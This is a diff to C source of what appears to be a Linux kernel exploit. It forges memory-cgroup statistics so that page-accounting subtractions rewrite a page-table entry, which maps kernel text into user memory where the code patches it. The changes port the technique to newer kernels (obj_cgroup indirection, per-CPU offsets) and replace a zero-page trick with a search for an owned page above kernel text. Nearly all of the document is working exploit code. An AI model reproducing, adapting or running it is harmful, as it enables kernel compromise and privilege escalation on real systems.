@@ -89,19 +89,28 @@ enum outcome rss_counter(void)
 /*
  * The same with the statistics of a memory cgroup, which struct page names.
  * What is subtracted there is compared with nothing: byte by byte it moves an
- * entry of the attacker's from the zero page down to kernel text.
+ * entry of the attacker's from an own page down to kernel text.
  */
 #define MEMCG_SIZE	PAGE_SIZE	/* at most */
+#define OBJECT_MEMCG	16	/* of a struct obj_cgroup */
 #define PER_NODE_STATS	8	/* of a struct mem_cgroup_per_node; its memcg is first */
-#define PER_CPU_END	(1UL << 40)	/* of per-CPU pointers */
+#define PER_CPU_END	(1UL << 40)	/* of per-CPU pointers, which newer kernels */
+#define PER_CPU_IMAGE	-(2UL << 30)	/* count from the image's per-CPU data on */
 #define STATS		64	/* at most */
 #define FILE_PAGES	256
+#define OWN_MEMORY	(512UL << 20)
+#define FEW_PAGES	64
 
 struct statistics {
-	uint64_t memcg;
-	struct kernel_page forged, node;
+	uint64_t named, forged_name;	/* by struct page */
+	struct kernel_page forged, node, object;
 	int index;		/* of mapped pages of files */
 };
+
+static bool is_per_cpu(uint64_t value)
+{
+	return value < PER_CPU_END || value >= PER_CPU_IMAGE;
+}
 
 static uint64_t find_node(uint64_t memcg, size_t *offset)
 {
@@ -112,7 +121,7 @@ static uint64_t find_node(uint64_t memcg, size_t *offset)
 		uint64_t node = words[*offset / sizeof(*words)];
 
 		if (is_kernel_address(node) && kread64(node) == memcg &&
-		    kread64(node + PER_NODE_STATS) < PER_CPU_END)
+		    is_per_cpu(kread64(node + PER_NODE_STATS)))
 			return node;
 	}
 	return 0;
@@ -153,26 +162,46 @@ static int find_index(uint64_t node, int fd)
 	return -1;
 }
 
+/* In newer kernels struct page names an object, and that the memory cgroup. */
+static uint64_t memcg_of_object(struct statistics *stats)
+{
+	uint64_t object = stats->named & -8UL;
+
+	if (!kernel_page(&stats->object) || !copy_page(&stats->object, object))
+		return 0;
+	kwrite64(stats->object.addr + OBJECT_MEMCG, stats->forged.addr);
+	stats->forged_name = stats->object.addr | (stats->named & 7);
+	return kread64(object + OBJECT_MEMCG);
+}
+
 static bool forge_statistics(struct statistics *stats, int fd)
 {
 	char *file = map_file(fd, 1);
+	uint64_t node, memcg;
 	struct slot slot;
-	uint64_t node;
 	size_t offset;
 
 	if (kwalk((uint64_t)file, LEAF, 0, &slot) || munmap(file, PAGE_SIZE))
 		return false;
-	stats->memcg = kread64(slot.page + PAGE_MEMCG);
-	node = stats->memcg ? find_node(stats->memcg, &offset) : 0;
-	if (!node || !kernel_page(&stats->forged) || !kernel_page(&stats->node))
+	memcg = stats->named = kread64(slot.page + PAGE_MEMCG);
+	if (!memcg || !kernel_page(&stats->forged) || !kernel_page(&stats->node))
 		return false;
-	stats->index = find_index(node, fd);
-	return stats->index >= 0 && copy_page(&stats->forged, stats->memcg) &&
-	       copy_page(&stats->node, node) &&
-	       !kwrite64(stats->forged.addr + offset, stats->node.addr);
+	stats->forged_name = stats->forged.addr;
+	node = find_node(memcg, &offset);
+	if (!node) {
+		memcg = memcg_of_object(stats);
+		node = memcg ? find_node(memcg, &offset) : 0;
+	}
+	stats->index = node ? find_index(node, fd) : -1;
+	if (stats->index < 0 || !copy_page(&stats->forged, memcg) || !copy_page(&stats->node, node))
+		return false;
+	/* Newer kernels go back to the memory cgroup, and from there to the node once more. */
+	if (memcg != stats->named)
+		kwrite64(stats->node.addr, stats->forged.addr);
+	return !kwrite64(stats->forged.addr + offset, stats->node.addr);
 }
 
-static int name_memcg(const char *file, int pages, uint64_t memcg, uint64_t *page)
+static int name_memcg(const char *file, int pages, uint64_t name, uint64_t *page)
 {
 	struct slot slot;
 	int i, err = 0;
@@ -180,7 +209,7 @@ static int name_memcg(const char *file, int pages, uint64_t memcg, uint64_t *pag
 	for (i = 0; i < pages && !err; i++) {
 		if (file && !kwalk((uint64_t)file + i * PAGE_SIZE, LEAF, 0, &slot))
 			page[i] = slot.page;
-		err = kwrite64(page[i] + PAGE_MEMCG, memcg);
+		err = kwrite64(page[i] + PAGE_MEMCG, name);
 	}
 	return err;
 }
@@ -197,9 +226,9 @@ static int subtract(const struct statistics *stats, int fd, uint64_t target, int
 	file = map_file(fd, nr);
 	err = kwrite64(stats->node.addr + PER_NODE_STATS,
 		       target - stats->index * sizeof(long) - offset_of_cpu());
-	err = err ?: name_memcg(file, nr, stats->forged.addr, page);
+	err = err ?: name_memcg(file, nr, stats->forged_name, page);
 	munmap(file, nr * PAGE_SIZE);
-	return name_memcg(NULL, nr, stats->memcg, page) ?: err;
+	return name_memcg(NULL, nr, stats->named, page) ?: err;
 }
 
 /* Each byte of the entry has units of its own: 1/16, 16 and 4096 pages. */
@@ -211,27 +240,20 @@ static int move_entry(const struct statistics *stats, int fd, uint64_t slot, uin
 	return err ?: subtract(stats, fd, slot + 3, pages / 4096);
 }
 
-/* The zero page lies behind text, and this one may be written. */
-static volatile char *map_zero_page(struct slot *slot)
+/* One whose number is higher than that of a page of text, which may be anywhere. */
+static volatile char *map_page_behind(uint64_t phys, struct slot *slot)
 {
-	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
-				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
-	uint64_t vma = find_vma(page);
+	volatile char *page = mmap(NULL, OWN_MEMORY, PROT_READ | PROT_WRITE,
+				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), *end = page + OWN_MEMORY;
 
-	if (!vma || kwrite64(vma + VMA_PROT, writable_protection()))
-		return NULL;
-	(void)*page;
-	return kwalk((uint64_t)page, LEVEL_PTE, 0, slot) ? NULL : page;
-}
-
-/* Who unmaps it shall take it for the zero page. */
-static void unmap_zero_page(volatile char *page, uint64_t phys)
-{
-	uint64_t number = ksymbol("zero_pfn"), old = kread64(number);
-
-	kwrite64(number, phys / PAGE_SIZE);
-	munmap((void *)page, PAGE_SIZE);
-	kwrite64(number, old);
+	madvise((void *)page, OWN_MEMORY, MADV_NOHUGEPAGE);
+	for (; page < end; page += PAGE_SIZE) {
+		page[0] = 1;
+		if ((uintptr_t)page / PAGE_SIZE % FEW_PAGES == 0 &&
+		    !kwalk((uint64_t)page, LEVEL_PTE, 0, slot) && slot->phys > phys)
+			return page;
+	}
+	return NULL;
 }
 
 enum outcome memcg_statistics(void)
@@ -246,15 +268,17 @@ enum outcome memcg_statistics(void)
 	stay_on_cpu(0);
 	if (fd < 0 || ftruncate(fd, FILE_PAGES * PAGE_SIZE) || !forge_statistics(&stats, fd))
 		return broken("no statistics found");
-	page = map_zero_page(&slot);
-	if (!page || slot.phys < phys)
-		return broken("no zero page behind text");
+	page = map_page_behind(phys, &slot);
+	if (!page)
+		return broken("no own page behind text");
 	err = move_entry(&stats, fd, slot.slot, (slot.phys - phys) / PAGE_SIZE);
 	if ((kread64(slot.slot) & PTE_PFN_MASK) != phys)
 		return lost("the stores gave %d, and the entry does not map text", err);
 	flush_tlb();
 	outcome = patch_text_in_user_mapping((char *)page + text_phys() % PAGE_SIZE);
-	unmap_zero_page(page, phys);
+	/* Who unmaps it finds its own page there. */
+	kwrite64(slot.slot, slot.value);
+	flush_tlb();
 	return outcome;
 }
 
